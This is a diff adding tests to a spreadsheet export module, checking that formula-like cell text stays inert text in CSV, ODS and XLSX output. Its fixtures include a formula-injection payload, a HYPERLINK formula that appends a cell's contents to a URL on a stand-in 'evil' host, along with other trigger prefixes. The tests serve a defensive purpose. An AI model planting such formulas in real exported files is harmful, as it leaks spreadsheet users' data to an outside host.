@@ -51,3 +51,46 @@ describe('csvZipOf', () => {
     expect(strFromU8(files['01-spend.csv'])).toBe(csvOf(spend));
   });
 });
+
+describe('formula-like text', () => {
+  const formula = '=HYPERLINK("https://evil/?"&A2,"x")';
+  const risky: Sheet = {
+    name: 'Sessions',
+    columns: [text('Topic'), count('Attendance'), money('Cost')],
+    rows: [
+      [formula, -3, -12_50],
+      ['+447700900123', 1, 1],
+      ['-1+2', 0, 0],
+      ['@SUM(A1:A9)', null, null],
+      ['\tTabbed', null, null],
+      ['\uFF1D1+1', null, null],
+      ['A plain topic - with a dash', null, null],
+    ],
+  };
+
+  it('stays text in CSV: a quote before it, numbers left as numbers', () => {
+    expect(csvOf(risky)).toBe(
+      'Topic,Attendance,Cost\n' +
+        `"'=HYPERLINK(""https://evil/?""&A2,""x"")",-3,-12.50\n` +
+        "'+447700900123,1,0.01\n" +
+        "'-1+2,0,0.00\n" +
+        "'@SUM(A1:A9),,\n" +
+        "'\tTabbed,,\n" +
+        "'\uFF1D1+1,,\n" +
+        'A plain topic - with a dash,,\n',
+    );
+  });
+
+  it('stays text in the zip of CSVs', () => {
+    const files = unzipSync(new Uint8Array(csvZipOf([risky])));
+    expect(strFromU8(files['01-sessions.csv'])).toContain(`"'=HYPERLINK(`);
+  });
+
+  it.each(['ODS', 'XLSX'] as const)('is a string cell in %s, never a formula', (format) => {
+    const sheet = read(workbookOf([risky], format)).Sheets.Sessions;
+    expect(sheet.A2).toMatchObject({ t: 's', v: formula });
+    expect(sheet.A2.f).toBeUndefined();
+    expect(sheet.A3).toMatchObject({ t: 's', v: '+447700900123' });
+    expect(sheet.A3.f).toBeUndefined();
+  });
+});
